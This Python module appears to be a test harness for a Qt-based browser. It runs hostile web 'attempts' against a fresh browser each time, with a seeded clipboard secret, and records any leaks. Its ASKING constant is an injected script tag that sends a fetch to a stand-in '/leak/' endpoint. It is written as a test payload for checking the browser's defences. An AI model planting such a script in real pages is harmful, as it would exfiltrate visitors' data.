"""Tries one attempt after the other, each on a fresh browser."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from PySide6.QtCore import QCoreApplication, QElapsedTimer, QEventLoop, Qt, QTimer
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QApplication

from tests.web.hostile import hands
from tests.web.hostile.attempt import ALLOWED, ANYBODY, PAINTED, Attempt
from tests.web.hostile.subjects import BareView, Guided, Subject
from tests.web.hostile.witness import Witness, forget
from tests.web.internet import Answer, Internet, Request

LOADED_MS = 5_000
PAINTED_MS = 1_500
MORE_MS = 50
BEAT_MS = 10
ASKING = (
    "<script>fetch('https://localhost.cts.md:18443/leak/NAME', {mode: 'no-cors'}).catch(() => {})</script>"
)


class Trial:
    """A browser's trial on the net and in the home folder that the process was given."""

    def __init__(self, browser: str, patience: float, home: Path, internet: Internet) -> None:
        QCoreApplication.setAttribute(Qt.ApplicationAttribute.AA_ShareOpenGLContexts)
        self._app = QApplication([])
        self._app.setQuitOnLastWindowClosed(False)
        self._subject: Callable[[Path], Subject] = Guided if browser == "guided" else BareView
        self._patience = patience
        self._home = home
        self._internet = internet

    def attempt(self, attempt: Attempt) -> list[str]:
        """What was seen of an attempt that must not be seen; nothing when it was stopped."""
        self._raise_site(attempt)
        forget(self._home)
        QGuiApplication.clipboard().setText("a secret of the visitor before")
        subject = self._subject(self._home)
        subject.widget.setGeometry(0, 0, 900, 600)
        subject.widget.show()
        subject.widget.activateWindow()
        witness = Witness(attempt, subject, self._home, self._internet.seen)
        came: list[bool] = []
        subject.pages()[0].loadFinished.connect(came.append)
        # By a timer, because dialogs turn a loop of their own.
        beat = QTimer()
        beat.timeout.connect(witness.look)
        beat.start(BEAT_MS)
        subject.open(attempt.url)
        self._wait(LOADED_MS, lambda: bool(witness.evidence or came))
        for act in attempt.acts:
            self._wait(PAINTED_MS, lambda: subject.view.title() == PAINTED)
            hands.act(act, subject.widget, subject.view.focusProxy() or subject.view, self._home)
        self._wait(attempt.wait_ms * self._patience, lambda: bool(witness.evidence))
        self._wait(MORE_MS if witness.evidence else 0, lambda: False)
        beat.stop()
        subject.close()
        return witness.evidence

    def _raise_site(self, attempt: Attempt) -> None:
        def allowed(request: Request) -> Answer:
            answer = Answer(attempt.fill(ASKING)) if "/asks/" in request.path else attempt.answer(request)
            if isinstance(answer.body, str):
                return replace(answer, body=answer.body.replace("PORT", str(self._internet.port)))
            return answer

        self._internet.sites.clear()
        self._internet.sites.update({entry.split("/")[0].split(":")[0]: allowed for entry in ALLOWED})
        self._internet.otherwise = lambda _request: Answer("<title>evil</title>", headers=ANYBODY)

    def _wait(self, most_ms: float, until: Callable[[], bool]) -> None:
        timer = QElapsedTimer()
        timer.start()
        while not until() and timer.elapsed() < most_ms:
            self._app.processEvents(QEventLoop.ProcessEventsFlag.WaitForMoreEvents)  # the beat is one
